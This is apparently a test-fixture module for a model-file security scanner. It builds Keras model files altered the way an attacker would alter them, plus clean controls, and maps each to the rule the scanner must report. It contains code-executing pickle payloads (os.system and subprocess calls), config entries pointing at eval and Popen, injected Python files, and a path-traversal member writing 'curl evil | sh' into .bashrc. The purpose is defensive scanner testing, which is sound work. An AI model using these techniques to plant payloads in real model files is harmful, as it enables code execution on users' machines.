"""Model files built the way an attacker builds them, and clean ones, for `scan` and the side-by-side
benchmark against other scanners (`benchmarks/bench_scanners.py`).

Each probe starts from a real Keras 3 model (a small `Sequential` saved as `.keras` and `.h5`) and is
changed as an attacker would: a member added to the zip, an entry of `config.json` or of the `.h5`'s
`training_config` rewritten. `PROBES` maps each probe's file name to the rule `scan` must report (None for
a clean file) and whether that finding is an error.
"""

from __future__ import annotations

import base64
import io
import json
import os
import pickle
import zipfile
from pathlib import Path

import numpy as np

os.environ.setdefault("KERAS_BACKEND", "numpy")


class SystemCall:
    """Pickles to `os.system("id")` (posix.system on Linux): what a malicious pickle runs."""

    def __reduce__(self):
        return os.system, ("id",)


def system_pickle(protocol: int = 4) -> bytes:
    return pickle.dumps(SystemCall(), protocol=protocol)


def protocol0_subprocess() -> bytes:
    """A hand-written protocol 0 pickle calling `subprocess.check_output(['id'])` (no header)."""
    return b"csubprocess\ncheck_output\n((lp0\nS'id'\np1\natp2\nRp3\n."


def object_npy(payload: object) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, np.array([payload], dtype=object), allow_pickle=True)
    return buffer.getvalue()


def object_npz() -> bytes:
    buffer = io.BytesIO()
    np.savez(buffer, kernel=np.zeros((2, 2)), table=np.array([SystemCall()], dtype=object))
    return buffer.getvalue()


def zip_bytes(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def torch_save_bytes() -> bytes:
    """The layout of `torch.save` (`archive/data.pkl` in a zip) with a pickle that calls os.system."""
    return zip_bytes({"archive/data.pkl": system_pickle(2), "archive/version": b"3\n"})


def function(module: str, name: str) -> dict:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


# probe file -> (rule scan reports, True when it is an error); rule None: a clean file
PROBES: dict[str, tuple[str | None, bool]] = {
    "lambda.keras": ("lambda", True),
    "lambda.h5": ("lambda", True),
    "foreign_module.keras": ("foreign-module", True),
    "builtins_eval.keras": ("foreign-function", True),
    "unsafe_deserialization.keras": ("foreign-function", True),
    "get_file.keras": ("foreign-function", True),
    "tfsm_layer.keras": ("external-graph", True),
    "torch_wrapper.keras": ("external-graph", True),
    "pickle_member.keras": ("pickle", True),
    "pickle_protocol0.keras": ("pickle", True),
    "npy_object.keras": ("pickle", True),
    "npz_in_assets.keras": ("pickle", True),
    "npz_weights.keras": ("pickle", True),
    "nested_zip.keras": ("pickle", True),
    "python_asset.keras": ("python-source", True),
    "init_at_root.keras": ("python-source", True),
    "path_traversal.keras": ("unexpected-member", True),
    "metric.keras": ("custom-class", False),
    "metric.h5": ("custom-class", False),
    "initializer.keras": ("custom-class", False),
    "clean.keras": (None, False),
    "clean.h5": (None, False),
    "clean_lstm.keras": (None, False),
    "clean_lstm.h5": (None, False),
}


def base_models(folder: Path) -> dict[str, Path]:
    import keras

    dense = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3, name="d1"), keras.layers.Dense(2)])
    dense.compile(optimizer="adam", loss="mse", metrics=["mae"])
    lstm = keras.Sequential([keras.Input((5, 3)), keras.layers.LSTM(4), keras.layers.Dense(1)])
    lam = keras.Sequential([keras.Input((4,)), keras.layers.Lambda(lambda t: t * 2.0), keras.layers.Dense(2)])
    paths = {}
    for name, model in (("clean", dense), ("clean_lstm", lstm), ("lambda", lam)):
        for fmt in ("keras", "h5"):
            paths[f"{name}.{fmt}"] = folder / f"{name}.{fmt}"
            model.save(paths[f"{name}.{fmt}"])
    return paths


def _copy_with(source: Path, target: Path, members: dict[str, bytes], config=None, drop=()) -> None:
    """`source` rewritten as `target`: `config(dict)` changes config.json; `members` added."""
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(target, "w") as archive:
        for info in original.infolist():
            if info.filename in drop:
                continue
            data = original.read(info)
            if info.filename == "config.json" and config is not None:
                envelope = json.loads(data)
                config(envelope)
                data = json.dumps(envelope).encode()
            archive.writestr(info, data)
        for name, data in members.items():
            archive.writestr(name, data)


def _set_dense(envelope: dict, **changes) -> None:
    envelope["config"]["layers"][1]["config"].update(changes)


def _replace_dense(entry: dict):
    def change(envelope: dict) -> None:
        old = envelope["config"]["layers"][1]
        envelope["config"]["layers"][1] = {**old, **entry, "config": {**old["config"], **entry["config"]}}

    return change


def _compile_metric(envelope: dict) -> None:
    envelope["compile_config"]["metrics"] = [{"class_name": "MaliciousMetric", "config": {"name": "m"}}]


def _h5_metric(path: Path) -> None:
    import h5py

    with h5py.File(path, "r+") as handle:
        training = json.loads(handle.attrs["training_config"])
        training["metrics"] = [[{"class_name": "MaliciousMetric", "config": {"name": "m"}}]]
        handle.attrs["training_config"] = json.dumps(training)


def _archive_probes(clean: Path) -> dict[str, dict]:
    """probe -> keyword arguments of `_copy_with` (members added, config changed, members dropped)."""
    torch_module = base64.b64encode(torch_save_bytes()).decode("ascii")
    return {
        "foreign_module.keras": {
            "config": _replace_dense({"module": "subprocess", "class_name": "Popen", "config": {}})
        },
        "builtins_eval.keras": {"config": lambda e: _set_dense(e, activation=function("builtins", "eval"))},
        "unsafe_deserialization.keras": {
            "config": lambda e: _set_dense(
                e, activation=function("keras.config", "enable_unsafe_deserialization")
            )
        },
        "get_file.keras": {"config": lambda e: _set_dense(e, activation=function("keras.utils", "get_file"))},
        "tfsm_layer.keras": {
            "config": _replace_dense(
                {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": "/tmp/evil"}}
            )
        },
        "torch_wrapper.keras": {
            "config": _replace_dense(
                {
                    "module": "keras.layers",
                    "class_name": "TorchModuleWrapper",
                    "config": {"module": torch_module},
                }
            )
        },
        "pickle_member.keras": {"members": {"assets/state.pkl": system_pickle()}},
        "pickle_protocol0.keras": {"members": {"assets/tokenizer.bin": protocol0_subprocess()}},
        "npy_object.keras": {"members": {"assets/table.npy": object_npy(SystemCall())}},
        "npz_in_assets.keras": {"members": {"assets/extra.npz": object_npz()}},
        "npz_weights.keras": {"members": {"model.weights.npz": object_npz()}, "drop": ("model.weights.h5",)},
        "nested_zip.keras": {"members": {"assets/payload.zip": torch_save_bytes()}},
        "python_asset.keras": {"members": {"assets/hook.py": b"import os\nos.system('id')\n"}},
        "init_at_root.keras": {"members": {"__init__.py": b"import os\nos.system('id')\n"}},
        "path_traversal.keras": {"members": {"../../.bashrc": b"curl evil | sh\n"}},
        "metric.keras": {"config": _compile_metric},
        "initializer.keras": {
            "config": lambda e: _set_dense(e, kernel_initializer={"class_name": "EvilInit", "config": {}})
        },
    }


def write_probes(folder: Path) -> dict[str, str]:
    """Every probe of `PROBES` written into `folder`; probe name -> path."""
    import warnings

    warnings.filterwarnings("ignore")
    folder.mkdir(parents=True, exist_ok=True)
    paths = {name: str(path) for name, path in base_models(folder).items() if name in PROBES}
    clean = folder / "clean.keras"
    for name, change in _archive_probes(clean).items():
        _copy_with(
            clean, folder / name, change.get("members", {}), change.get("config"), change.get("drop", ())
        )
        paths[name] = str(folder / name)
    metric_h5 = folder / "metric.h5"
    metric_h5.write_bytes((folder / "clean.h5").read_bytes())
    _h5_metric(metric_h5)
    paths["metric.h5"] = str(metric_h5)
    assert set(paths) == set(PROBES), set(PROBES) ^ set(paths)
    return paths
